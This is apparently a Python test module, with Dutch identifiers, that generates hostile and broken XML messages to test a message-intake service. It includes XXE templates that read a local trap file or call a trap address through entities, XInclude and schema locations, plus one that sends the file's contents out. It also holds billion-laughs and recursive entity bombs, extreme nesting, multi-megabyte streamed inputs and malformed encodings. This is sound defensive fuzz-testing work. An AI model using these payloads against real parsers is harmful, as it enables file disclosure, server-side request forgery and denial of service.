"""The classes of hostile and broken XML; each maker gives the body of its n-th message, by the seed alone."""

import random
import re
from collections.abc import Callable, Iterator

from lxml import etree

from tests.unit.declaraties.standaard.mutaties import CODERING, KLASSEN, muteer_klasse
from tests.vijandig.zendingen import (
    BERICHTEN,
    ENVELOPPEN,
    Valstrik,
    Zending,
    een_bericht,
    een_envelop,
    met_bedrijfsfout,
    verpak,
)

_KOP = b'<?xml version="1.0" encoding="UTF-8"?>'
_NA_KOP = re.compile(rb"^<\?xml[^>]*\?>\s*")
_WAARDE = re.compile(rb">([A-Za-z0-9.-]+)</")
_TAG = re.compile(rb"<[^>]+>")
_MEGA = 1_000_000
Inhoud = bytes | Callable[[], Iterator[bytes]]
Bron = Callable[[random.Random, int], tuple[bytes, bool]]
Maker = Callable[[random.Random, int, Valstrik, Bron], tuple[Inhoud, bool]]
_IN_ENVELOP, _ALS_ENVELOP = 0.08, 0.08


def zending(klasse: str, nummer: int, *, zaad: str, valstrik: Valstrik) -> Zending:
    """The n-th message of a class."""
    r = random.Random(f"{zaad}|{klasse}|{nummer}")
    # numbers differ over classes too, so that no message is taken for a copy of another
    eigen = 20_000 * list(MAKERS).index(klasse) + nummer
    kans = r.random()
    # the envelope is broken itself, or good with a broken message in it
    bron = een_envelop if kans < _ALS_ENVELOP else een_bericht
    inhoud, van_gemeente = MAKERS[klasse](r, eigen, valstrik, bron)
    verpakt = _ALS_ENVELOP <= kans < _ALS_ENVELOP + _IN_ENVELOP and isinstance(inhoud, bytes)
    if verpakt and isinstance(inhoud, bytes):
        inhoud = verpak(inhoud, r, van_gemeente=van_gemeente)
    stroom = inhoud if callable(inhoud) else (lambda: iter((inhoud,)))
    pad = ENVELOPPEN if verpakt or bron is een_envelop else BERICHTEN
    return Zending(klasse=klasse, naam=f"{klasse} nr {nummer}", van_gemeente=van_gemeente, inhoud=stroom, pad=pad)


def _structuur(r: random.Random, nummer: int, _v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    for _ in range(r.randint(1, 3)):
        data = r.choice(_STRUCTUREN)(data, r)
    return data, van_gemeente


def _een_tag(data: bytes, r: random.Random) -> tuple[int, int]:
    tags = list(_TAG.finditer(data))
    return r.choice(tags).span() if tags else (0, 0)


def _knip(data: bytes, r: random.Random) -> bytes:
    return data[: r.randrange(len(data) + 1)]


def _zonder_tag(data: bytes, r: random.Random) -> bytes:
    begin, eind = _een_tag(data, r)
    return data[:begin] + data[eind:]


def _dubbele_tag(data: bytes, r: random.Random) -> bytes:
    begin, eind = _een_tag(data, r)
    return data[:eind] + data[begin:eind] + data[eind:]


def _verwissel(data: bytes, r: random.Random) -> bytes:
    (a, b), (c, d) = sorted((_een_tag(data, r), _een_tag(data, r)))
    return data if b > c else data[:a] + data[c:d] + data[b:c] + data[a:b] + data[d:]


def _bytes(data: bytes, r: random.Random) -> bytes:
    kopie = bytearray(data)
    for _ in range(r.randint(1, 8)):
        if kopie:
            kopie[r.randrange(len(kopie))] = r.choice(b"<>&\"'/=! \x00\x7f\xff\nA0")
    return bytes(kopie)


def _omhulsel(data: bytes, r: random.Random) -> bytes:
    naam = r.choice([b"a", b"x:y", b"Envelope", b"soap:Envelope"])
    return _KOP + b"<" + naam + b">" + _NA_KOP.sub(b"", data) + b"</" + naam + b">"


def _verdubbel(data: bytes, _r: random.Random) -> bytes:
    return data + _NA_KOP.sub(b"", data)


def _rommel(_data: bytes, r: random.Random) -> bytes:
    return r.randbytes(r.randrange(2_000))


_STRUCTUREN = [_knip, _zonder_tag, _dubbele_tag, _verwissel, _bytes, _omhulsel, _verdubbel, _rommel]


def _xxe(r: random.Random, nummer: int, v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    doel = r.choice([f"file://{v.bestand}", v.bestand, f"{v.adres}/x", f"php://filter/resource={v.bestand}", "gopher://127.0.0.1/_",
                     f"jar:file://{v.bestand}!/x", f"ftp{v.adres[4:]}/x", f"{v.adres}/x.dtd?{nummer}", f"\\\\127.0.0.1\\{nummer}"]).encode()  # fmt: skip
    kern = _NA_KOP.sub(b"", data)
    waarde = r.choice(list(_WAARDE.finditer(kern)))
    verwijzing = kern[: waarde.start(1)] + b"&x;" + kern[waarde.end(1) :]
    wortel = kern.split(b">", 1)
    return r.choice(
        [
            _KOP + b'<!DOCTYPE x [<!ENTITY x SYSTEM "' + doel + b'">]>' + verwijzing,
            _KOP + b'<!DOCTYPE x SYSTEM "' + doel + b'">' + kern,
            _KOP + b'<!DOCTYPE x PUBLIC "-//x" "' + doel + b'">' + kern,
            _KOP + b'<!DOCTYPE x [<!ENTITY % p SYSTEM "' + doel + b'">%p;]>' + verwijzing,
            _KOP
            + b'<!DOCTYPE x [<!ENTITY % f SYSTEM "'
            + v.bestand.encode()
            + b'"><!ENTITY % e "<!ENTITY x SYSTEM \''
            + doel
            + b"?%f;'>\">%e;]>"
            + verwijzing,
            _KOP
            + wortel[0]
            + b'><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="'
            + doel
            + b'"/>'
            + wortel[1],
            _KOP
            + wortel[0]
            + b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x '
            + doel
            + b'">'
            + wortel[1],
            _KOP
            + wortel[0]
            + b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="'
            + doel
            + b'">'
            + wortel[1],
            _KOP + b'<?xml-stylesheet type="text/xsl" href="' + doel + b'"?>' + kern,
            _KOP + b'<?xml-model href="' + doel + b'"?>' + kern,
            _KOP + verwijzing,
            _KOP + wortel[0] + b' xml:base="' + doel + b'">' + wortel[1],
        ]
    ), van_gemeente


def _bommen(r: random.Random, nummer: int, _v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    kern = _NA_KOP.sub(b"", data)
    waarde = r.choice(list(_WAARDE.finditer(kern)))
    diepte, breedte = r.randint(2, 40), r.randint(2, 10)
    lachen = b"".join(
        b'<!ENTITY l%d "%s">' % (laag, b"&l%d;" % (laag - 1) * breedte if laag else b"ha") for laag in range(diepte)
    )
    groot = b'<!ENTITY l%d "' % (diepte - 1) + b"h" * r.choice([1_000, 100_000, 1_000_000]) + b'">'
    kring = b'<!ENTITY l%d "&k;"><!ENTITY k "&l%d;">' % (diepte - 1, diepte - 1)
    roep = (b"&l%d;" % (diepte - 1)) * r.choice([1, 10, 1_000])
    soort = r.choice([lachen, groot, kring, lachen.replace(b"<!ENTITY", b"<!ENTITY %"), b""])
    kop = _KOP + (b"<!DOCTYPE x [" + soort + b"]>" if soort else b"")
    tekst = roep if soort else r.choice([b"&amp;", b"&#38;", b"&#x26;", b"<![CDATA[x]]>", b"<!--x-->", b"<?x y?>"]) * r.choice([10, 10_000, 200_000])  # fmt: skip
    return kop + kern[: waarde.start(1)] + tekst + kern[waarde.end(1) :], van_gemeente


def _dtd(r: random.Random, nummer: int, _v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    kern = _NA_KOP.sub(b"", data)
    dtd = r.choice(
        [
            b"<!DOCTYPE x>",
            b"<!DOCTYPE x []>",
            b"<!DOCTYPE x [<!ELEMENT x ANY>]>",
            b"<!DOCTYPE x [" + b"<!ELEMENT e%d EMPTY>" * r.choice([1, 1_000, 20_000]) + b"]>",
            b'<!DOCTYPE x [<!ATTLIST Bericht soort CDATA "x">]>',
            b'<!DOCTYPE x [<!NOTATION n SYSTEM "n">]>',
            b"<!DOCTYPE",
            b"<!DOCTYPE x [",
            b"<!doctype html>",
            b"<!ENTITY x 'y'>",
            b"<!ELEMENT x ANY>",
        ]
    )
    voor = r.choice([b"", b"\n" * r.choice([1, 100_000]), b"<!-- " + b"x" * r.choice([1, 70_000, 200_000]) + b" -->", b"<?doe iets?>"])  # fmt: skip
    plaats = r.choice(["voor", "voor", "voor", "na wortel", "in een waarde"])
    if plaats == "voor":
        return _KOP + voor + dtd + kern, van_gemeente
    if plaats == "na wortel":
        return _KOP + voor + kern + dtd, van_gemeente
    return _KOP + voor + kern.replace(b"</", dtd + b"</", 1), van_gemeente


def _codering(r: random.Random, nummer: int, _v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    if r.random() < 0.5:
        return muteer_klasse(etree.fromstring(data), CODERING, r)[0], van_gemeente
    tekst = data.decode()
    naam = r.choice(["utf-7", "utf-16-be", "utf-16-le", "utf-32-be", "cp037", "cp500", "iso2022_jp", "gb18030", "big5"])
    anders = tekst.replace("UTF-8", naam.upper()).encode(naam, "replace")
    slecht = r.choice([b"\xff", b"\xc3", b"\xf5\x80\x80\x80", b"\xed\xbf\xbf", b"\xc0\x80", b"\x00", b"\xef\xbf\xbf", b"\x1a", b"\x85", b"\xe2\x80\xae"])  # fmt: skip
    plaats = r.randrange(len(data))
    merk = r.choice([b"\xef\xbb\xbf", b"\xfe\xff", b"\xff\xfe", b"\x2b\x2f\x76\x38\x2d", b"\x00\x00\xfe\xff"])
    return r.choice([anders, data[:plaats] + slecht + data[plaats:], merk + data, data + slecht]), van_gemeente


def _diepte(r: random.Random, nummer: int, _v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    # most are cheap to make; about one in a hundred goes to the bottom
    diepte = 10 ** r.randint(2, 4) if r.random() > 0.03 else r.choice([100_000, 300_000, 1_000_000])
    naam = r.choice([b"a", b"Client", b"Prestatie"])
    begin, eind = b"<" + naam + b">", b"</" + naam + b">"
    if r.random() < 0.3:
        return _KOP + begin * diepte + (eind * diepte if r.random() < 0.7 else b""), van_gemeente
    plek = r.choice([tag.end() for tag in _TAG.finditer(data)][1:-1])
    return data[:plek] + begin * diepte + eind * diepte + data[plek:], van_gemeente


def _reus(r: random.Random, nummer: int, _v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    mega = r.choice([1, 1, 1, 1, 1, 1, 2, 2, 3]) if r.random() > 0.04 else r.choice([12, 24, 26, 50, 100])
    waarden = list(_WAARDE.finditer(data))
    waarde = r.choice(waarden)
    stuk = r.choice([b"x", b" ", b"0", b"9", b"\t", b"\xc3\xa9", b"&#65;", b"<!---->"])
    soort = r.choice(["tekst", "tekst", "attribuut", "attributen", "naam", "opmerking", "wit", "naamruimten"])
    voor, na = data[: waarde.start(1)], data[waarde.end(1) :]
    tag = data[: waarde.start(1) - 1]
    delen: dict[str, tuple[bytes, bytes, bytes]] = {
        "tekst": (voor, stuk, na),
        "attribuut": (tag + b' a="', b"x", b'">1' + na),
        "attributen": (tag, b" a%d=''", b">1" + na),
        "naam": (tag + b"><", b"n", b"/>" + na),
        "opmerking": (voor + b"<!--", b"x", b"-->" + na),
        "wit": (data, b" ", b""),
        "naamruimten": (tag, b" xmlns:p%d='u'", b">1" + na),
    }
    begin, herhaald, eind = delen[soort]

    def stroom() -> Iterator[bytes]:
        yield begin
        klaar = 0
        while klaar < mega * _MEGA:
            if b"%d" in herhaald:
                blok = b"".join(herhaald % (klaar + n) for n in range(4_000))
            else:
                blok = herhaald * (65_536 // len(herhaald))
            klaar += len(blok)
            yield blok
        yield eind

    return stroom, van_gemeente


def _xsd(r: random.Random, nummer: int, _v: Valstrik, bron: Bron) -> tuple[Inhoud, bool]:
    data, van_gemeente = bron(r, nummer)
    klasse = r.choice([klasse for klasse in KLASSEN if klasse != CODERING])
    return muteer_klasse(etree.fromstring(data), klasse, r)[0], van_gemeente


def _bedrijf(r: random.Random, nummer: int, _v: Valstrik, _bron: Bron) -> tuple[Inhoud, bool]:
    return met_bedrijfsfout(r, nummer), False


MAKERS: dict[str, Maker] = {
    "structuur": _structuur,
    "XXE": _xxe,
    "entiteitbommen": _bommen,
    "DTD": _dtd,
    "coderingen": _codering,
    "diepte": _diepte,
    "reuzen": _reus,
    "XSD": _xsd,
    "bedrijfsregels": _bedrijf,
}
